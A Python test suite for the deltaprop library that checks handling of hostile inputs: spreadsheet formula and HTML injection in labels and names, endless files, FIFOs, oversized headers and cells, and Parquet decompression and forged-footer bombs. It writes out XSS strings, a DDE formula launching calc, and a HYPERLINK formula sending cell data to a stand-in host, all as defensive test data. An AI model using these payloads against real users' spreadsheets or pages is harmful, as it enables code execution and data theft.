"""Hostile and careless inputs, third round (issue 28): injection, hangs, bombs and wrong reasons.

Each test reproduces one case of the issue and failed on the code before its fix. Memory bombs run in
a subprocess under an address-space limit, their peak RSS bounded (test_hostile.peak_of).
"""

import csv
import os
import re
import subprocess
import sys
import threading
import time

import numpy as np
import pytest

import deltaprop as dp
import deltaprop.data
from deltaprop.errors import DataError
from deltaprop.explain import render_html, render_markdown, render_text
from deltaprop.explain.tex import parse
from test_cli import deltaprop
from test_hostile import PEAK_MB, peak_of

pytestmark = pytest.mark.slow  # memory and time bombs in limited subprocesses (not in the quick tier)

HOSTILE_NAMES = ["<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "price_$", "tax_$", "lo$^$",
                 "[x](javascript:alert(1))", "a\\b", "line\nbreak"]


def _classifier(labels: list, features: int = 3) -> dp.Network:
    rng = np.random.default_rng(0)
    net = dp.Network([dp.Dense(features, 4, "tanh"), dp.Dense(4, len(labels), "softmax")], loss="cross_entropy",
                     seed=0)
    net.fit(rng.normal(size=(4 * len(labels), features)), np.array(labels * 4), epochs=1, verbose=0)
    return net


FORMULAS = ['=HYPERLINK("http://x.example/?l="&A1,"c")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd", "plain"]


@pytest.fixture(scope="module")
def table_model(tmp_path_factory):
    """A model trained on a CSV whose labels are spreadsheet formulas."""
    folder = tmp_path_factory.mktemp("table")
    rng = np.random.default_rng(0)
    with (folder / "t.csv").open("w", newline="") as f:
        writer = csv.writer(f)
        writer.writerow(["x1", "x2", "label"])
        for k in range(80):
            writer.writerow([k % 4, round(rng.normal(), 3), FORMULAS[k % 4]])
    deltaprop("train", "--data", folder / "t.csv", "--target", "label", "--epochs", 30, "--layers", 8,
              "--folds", 1, "--out", folder / "m", "--quiet", "--no-plots")  # (one network learns all 4 labels here)
    return folder


def run_cli(*args, timeout: float = 60) -> subprocess.CompletedProcess:
    """deltaprop in a subprocess that may hang on the old code: a hang past ``timeout`` fails the test."""
    try:
        return subprocess.run([sys.executable, "-m", "deltaprop.cli", *map(str, args)], capture_output=True,
                              text=True, timeout=timeout)
    except subprocess.TimeoutExpired:
        pytest.fail(f"deltaprop {' '.join(map(str, args))} still ran after {timeout} s")


# --- 1: spreadsheet formula injection ------------------------------------------------
def test_predict_csv_prefixes_formula_cells_with_a_quote(table_model, tmp_path):
    """Labels that a spreadsheet runs as formulas come out of predict -o quoted ('=...), numbers untouched."""
    labels = FORMULAS
    deltaprop("predict", table_model / "m" / "model.safetensors", "--data", table_model / "t.csv", "--proba",
              "-o", tmp_path / "out.csv")
    rows = list(csv.reader((tmp_path / "out.csv").read_text().splitlines()))
    assert not any(cell.startswith(("=", "@", "+", "\t", "\r")) for row in rows for cell in row)
    predicted = {row[0] for row in rows[1:]}
    assert predicted <= {"'" + label for label in labels[:3]} | {"plain"} and len(predicted) >= 3
    assert f"p_{labels[1]}" in rows[0]  # a header cell starting with p_ is no formula
    assert all(float(p) >= 0 for row in rows[1:] for p in row[1:])  # probabilities stay numbers


def test_spreadsheet_safe_leaves_numbers_and_quotes_formulas():
    from deltaprop.cli.evaluate import spreadsheet_safe

    assert spreadsheet_safe(-1.5) == -1.5 and spreadsheet_safe("-1.5") == "-1.5" and spreadsheet_safe("a") == "a"
    assert spreadsheet_safe("=1+1") == "'=1+1" and spreadsheet_safe("-2+3") == "'-2+3"
    assert spreadsheet_safe("@x") == "'@x" and spreadsheet_safe("\tx") == "'\tx"


# --- 2 and 19: names in explain -------------------------------------------------------
def test_markdown_explain_escapes_html_in_names_and_labels():
    names = HOSTILE_NAMES[:3]
    net = _classifier(["<script>alert(1)</script>", '"><img src=x onerror=alert(1)>'])
    md = render_markdown(dp.explain(net, np.ones(3), '"><img src=x onerror=alert(1)>', feature_names=names))
    assert "<script>" not in md and "<img" not in md
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in md and "&lt;img src=x onerror=alert(1)&gt;" in md


def test_dollars_in_names_do_not_pair_into_math_in_any_format():
    """price_$ and tax_$ gave IndexError (text); a label lo$^$ did the same in HTML."""
    net = _classifier(["lo$^$", "hi"], features=4)
    ex = dp.explain(net, np.ones(4), "lo$^$", feature_names=["price_$", "tax_$", "a\\b", "[x](javascript:y)"])
    text = render_text(ex)
    assert "price_$ = 1, tax_$ = 1, a\\b = 1" in text and "class 'lo$^$'" in text
    page = render_html(ex)
    assert "price_$ = 1, tax_$ = 1" in page and "class &#x27;lo$^$&#x27;" in page
    md = render_markdown(ex)
    assert "price\\_\\$ = 1, tax\\_\\$ = 1, a\\\\b = 1, \\[x\\](javascript:y) = 1" in md
    prose = [line for line in md.split("$$")[::2]]  # outside the display equations
    for tex in re.findall(r"\$([^$]+)\$", "".join(prose).replace("\\$", "")):
        parse(tex)  # each inline pair is the document's math, none spans a name's dollar


# --- 3: a stored path to an endless file ------------------------------------------------
def test_a_model_naming_proc_pagemap_as_its_data_is_refused_at_once(table_model, tmp_path):
    """evaluate without --data hashed /proc/self/pagemap (0 bytes by its size, terabytes when read) for ever."""
    net = dp.load(table_model / "m" / "model.safetensors")
    net.pipeline.source["path"] = "/proc/self/pagemap"
    forged = tmp_path / "forged.safetensors"
    net.save(forged)  # a valid file, its checksum recomputed
    result = run_cli("evaluate", forged, timeout=30)
    assert result.returncode == 2 and "/proc/self/pagemap: holds more bytes than its size (0)" in result.stderr


def test_a_fifo_or_device_is_never_read_as_a_table(tmp_path):
    os.mkfifo(tmp_path / "f.csv")
    for path in (tmp_path / "f.csv", "/dev/zero"):
        with pytest.raises(DataError, match="not a regular file"):
            dp.data.read_table(path)


# --- 4 and 5: a header line past 64 KB ---------------------------------------------------
def _wide_csv(path, names, rows: int = 3):
    with path.open("w", newline="") as f:
        writer = csv.writer(f)
        writer.writerow(names)
        for r in range(rows):
            writer.writerow([r % 2 + k % 3 for k in range(len(names))])


def test_a_name_repeated_past_64kb_of_header_is_refused_in_memory_and_streamed(tmp_path):
    """6,000 columns and feature_00000 again at the end trained on a renamed feature_00000.1."""
    names = [f"feature_{k:05d}" for k in range(6000)] + ["feature_00000", "label"]
    _wide_csv(tmp_path / "t.csv", names)
    assert len(",".join(names)) > 65536
    with pytest.raises(DataError, match=r"duplicated column name\(s\) \['feature_00000'\]"):
        dp.data.read_table(tmp_path / "t.csv")
    with pytest.raises(DataError, match=r"duplicated column name\(s\) \['feature_00000'\]"):
        dp.data.stream(str(tmp_path / "t.csv"), target="label")


def test_a_header_longer_than_64kb_is_read_whole(tmp_path):
    """Names cut at the 64 KB boundary made a false duplicate: column6057 cut to column605 (a real name)."""
    names = ["x" * 9] + [f"column{k}" for k in range(9000)] + ["label"]
    seen = ",".join(names).encode()[:65536].decode().split(",")
    assert seen[-1] == "column605" and names[len(seen) - 1] == "column6057"  # what a 64 KB sample held
    _wide_csv(tmp_path / "t.csv", names)
    frame = dp.data.read_table(tmp_path / "t.csv")
    assert list(frame.columns) == names and frame.shape == (3, 9002)
    assert dp.data.stream(str(tmp_path / "t.csv"), target="label").source.features == names[:-1]


# --- 8 and 20: Parquet column types ---------------------------------------------------------
def test_parquet_decimal_columns_are_numeric_features(tmp_path):
    """decimal128 columns came to pandas as Decimal objects and were dropped as "an identifier"."""
    import decimal

    import pyarrow as pa
    import pyarrow.parquet as pq

    rng = np.random.default_rng(0)
    price = [decimal.Decimal(f"{v:.2f}") for v in rng.uniform(0, 100, 60)]
    table = pa.table({"price": pa.array(price, pa.decimal128(9, 2)), "label": [int(p > 50) for p in price]})
    pq.write_table(table, tmp_path / "d.parquet")
    frame = dp.data.read_table(tmp_path / "d.parquet")
    assert frame["price"].dtype == np.float64 and frame["price"].tolist() == [float(p) for p in price]
    encoder = dp.data.TableEncoder().fit(frame, target="label")
    assert [c.name for c in encoder.columns] == ["price"] and encoder.columns[0].kind == "numeric"
    data = dp.data.stream(str(tmp_path / "d.parquet"), target="label").prepare()
    assert data.n_features == 1 and not data.table  # numeric, as an array
    X, _ = next(data.epoch_chunks([0]))
    assert X[:, 0].tolist() == [float(p) for p in price]


@pytest.mark.parametrize("kind", ["list", "struct"])
def test_parquet_nested_columns_are_refused_by_name(tmp_path, kind):
    import pyarrow as pa
    import pyarrow.parquet as pq

    values = [[1, 2], [3], [], [4]] if kind == "list" else [{"a": 1, "b": "x"}, {"a": 2, "b": "y"}] * 2
    pq.write_table(pa.table({"x": [1.0, 2.0, 3.0, 4.0], "nested": values, "label": [0, 1, 0, 1]}),
                   tmp_path / "n.parquet")
    message = rf"n\.parquet: column 'nested' holds {kind}<.*nested"
    with pytest.raises(DataError, match=message):
        dp.data.read_table(tmp_path / "n.parquet")
    with pytest.raises(DataError, match=message):
        dp.data.stream(str(tmp_path / "n.parquet"), target="label")


# --- 13: a FIFO in a stream -------------------------------------------------------------------
def test_a_shard_replaced_by_a_fifo_is_refused_not_waited_on(tmp_path):
    """With the cache off, part2.csv replaced by a FIFO after the first pass blocked in open() for ever."""
    for i in range(2):
        _wide_csv(tmp_path / f"part{i}.csv", ["a", "b", "label"], rows=20)
    data = dp.data.stream(str(tmp_path / "part*.csv"), target="label", cache=False).prepare()
    (tmp_path / "part1.csv").unlink()
    os.mkfifo(tmp_path / "part1.csv")
    outcome = []

    def read():
        try:
            outcome.append(sum(len(y) for _, y in data.epoch_chunks([0, 1])))
        except Exception as exc:
            outcome.append(exc)

    reader = threading.Thread(target=read, daemon=True)
    reader.start()
    reader.join(10)
    if reader.is_alive():  # the old code: free the reader blocked in open() by opening the writing end
        os.close(os.open(tmp_path / "part1.csv", os.O_WRONLY | os.O_NONBLOCK))
        reader.join(10)
        pytest.fail("reading a stream whose shard became a FIFO blocked")
    assert isinstance(outcome[0], DataError) and "part1.csv: not a regular file (a FIFO" in str(outcome[0])


# --- 23 and 24: streams -------------------------------------------------------------------------
def test_a_header_only_csv_shard_among_others_names_its_problem(tmp_path):
    _wide_csv(tmp_path / "p0.csv", ["a", "b", "label"], rows=20)
    _wide_csv(tmp_path / "p1.csv", ["a", "b", "label"], rows=0)
    with pytest.raises(DataError, match=r"p1\.csv: the CSV file has a header but no data rows"):
        dp.data.stream(str(tmp_path / "p*.csv"), target="label").prepare()


def test_a_decoded_cache_file_truncated_between_fits_is_decoded_again(tmp_path):
    """A cached .npy cut between two fits raised numpy's ValueError; the shard is now read from its file again."""
    _wide_csv(tmp_path / "p0.csv", ["a", "b", "label"], rows=60)
    data = dp.data.stream(str(tmp_path / "p0.csv"), target="label", cache=tmp_path)
    net = dp.Network([dp.Dense(2, 4, "tanh"), dp.Dense(4, 2, "softmax")], loss="cross_entropy", seed=0)
    first = net.fit(data, epochs=2, batch_size=8, verbose=0)
    cached = sorted(data.cache.folder.glob("0-0-X.npy"))
    assert cached
    cached[0].write_bytes(cached[0].read_bytes()[:100])
    again = dp.Network([dp.Dense(2, 4, "tanh"), dp.Dense(4, 2, "softmax")], loss="cross_entropy", seed=0)
    assert again.fit(data, epochs=2, batch_size=8, verbose=0)["loss"] == first["loss"]
    assert cached[0].stat().st_size > 100  # written again


# --- 14, 15, 16, 18: memory and time bombs ---------------------------------------------------------
def _forge_parquet_rows(path, rows: int, claimed: int):
    """Rewrite the row counts in a Parquet footer (thrift compact i64 fields: zigzag varints) to ``claimed``."""
    def varint(n):
        n, out = n << 1, bytearray()  # zigzag of a non-negative number
        while True:
            out.append((n & 0x7F) | (0x80 if n > 0x7F else 0))
            n >>= 7
            if not n:
                return bytes(out)

    raw = path.read_bytes()
    length = int.from_bytes(raw[-8:-4], "little")
    footer = raw[-8 - length:-8]
    forged = footer.replace(b"\x16" + varint(rows), b"\x16" + varint(claimed))  # field delta 1, type i64
    forged = forged.replace(b"\x36" + varint(rows), b"\x36" + varint(claimed))  # field delta 3, type i64
    assert forged != footer
    path.write_bytes(raw[:-8 - length] + forged + len(forged).to_bytes(4, "little") + b"PAR1")


def test_parquet_footer_claiming_2_to_the_40_rows_is_refused_before_allocating(tmp_path):
    import pyarrow as pa
    import pyarrow.parquet as pq

    pq.write_table(pa.table({"x": np.arange(12345.0), "label": np.arange(12345) % 2}), tmp_path / "f.parquet")
    _forge_parquet_rows(tmp_path / "f.parquet", 12345, 2**40)
    assert pq.ParquetFile(tmp_path / "f.parquet").metadata.num_rows == 2**40
    for read in ("dp.data.read_table", "lambda p: dp.data.stream(p, target='label')"):
        out, peak = peak_of(f"({read})({str(tmp_path / 'f.parquet')!r})")
        assert "footer claims 1099511627776 rows" in out and peak < PEAK_MB, out


def test_parquet_decompression_bomb_is_refused_before_decoding(tmp_path):
    """5e8 int8 zeros in a few MB (run-length encoded): an ArrowMemoryError traceback at about 2 GB."""
    subprocess.run([sys.executable, "-c", f"""
import numpy as np, pyarrow as pa, pyarrow.parquet as pq
pq.write_table(pa.table({{"x": np.zeros(500_000_000, np.int8), "label": np.zeros(500_000_000, np.int8)}}),
               {str(tmp_path / 'bomb.parquet')!r}, row_group_size=2**26)
"""], check=True, timeout=300)
    assert (tmp_path / "bomb.parquet").stat().st_size < 20 * 2**20
    out, peak = peak_of(f"dp.data.read_table({str(tmp_path / 'bomb.parquet')!r})")
    assert "footer claims 500000000 rows" in out and peak < PEAK_MB, out


def test_a_csv_cell_of_300_mb_is_refused_before_it_is_parsed(tmp_path):
    """A 1 GB cell was an ArrowMemoryError traceback at 2.15 GB; a cell over 1 MiB is now refused, reading
    only as far as the cell."""
    with (tmp_path / "cell.csv").open("w") as f:
        f.write("a,b,label\n1,2,0\n3,")
        block = "y" * 2**24
        for _ in range(18):
            f.write(block)
        f.write(",1\n")
    for read in ("dp.data.read_table", "lambda p: dp.data.stream(p, target='label')"):
        out, peak = peak_of(f"({read})({str(tmp_path / 'cell.csv')!r})")
        assert "a cell (a field between delimiters) is longer than 1 MiB" in out and peak < PEAK_MB, out


def test_a_table_of_100000_columns_is_refused_at_its_header(tmp_path):
    """100,000 columns x 20 rows (4.7 MB) trained for 68 s at 1.1 GB; c0..c99999 was refused for a duplicate
    'c10' (a name cut at 64 KB). Now refused for its width after reading the header, in a second or two."""
    rng = np.random.default_rng(0)
    with (tmp_path / "wide.csv").open("w") as f:
        f.write(",".join(f"c{k}" for k in range(100_000)) + ",label\n")
        for r in range(20):
            f.write(",".join(map(str, rng.integers(0, 10, 100_000))) + f",{r % 2}\n")
    for read in ("dp.data.read_table", "lambda p: dp.data.stream(p, target='label')"):
        start = time.perf_counter()
        out, peak = peak_of(f"({read})({str(tmp_path / 'wide.csv')!r})")
        assert "100001 columns, more than the 10000 a table may have" in out and peak < PEAK_MB, out
        assert time.perf_counter() - start < 30


def test_parquet_text_that_is_not_utf8_is_a_data_error(tmp_path):
    """Found by the Parquet fuzzer: Arrow reads such text unchecked; pandas then raised ArrowException."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    pq.write_table(pa.table({"c": ["abcdef", "ghijkl"] * 15, "label": [0, 1] * 15}), tmp_path / "u.parquet",
                   compression="none", use_dictionary=False)
    raw = (tmp_path / "u.parquet").read_bytes()
    (tmp_path / "u.parquet").write_bytes(raw.replace(b"abcdef", b"ab\xff\xfeef"))
    with pytest.raises(DataError, match=r"u\.parquet: (unreadable|cannot be read).*Invalid UTF8"):
        dp.data.read_table(tmp_path / "u.parquet")
    with pytest.raises(DataError, match=r"u\.parquet: (unreadable|cannot be read).*Invalid UTF8"):
        list(dp.data.stream(str(tmp_path / "u.parquet"), target="label", cache=False).prepare().epoch_chunks([0]))
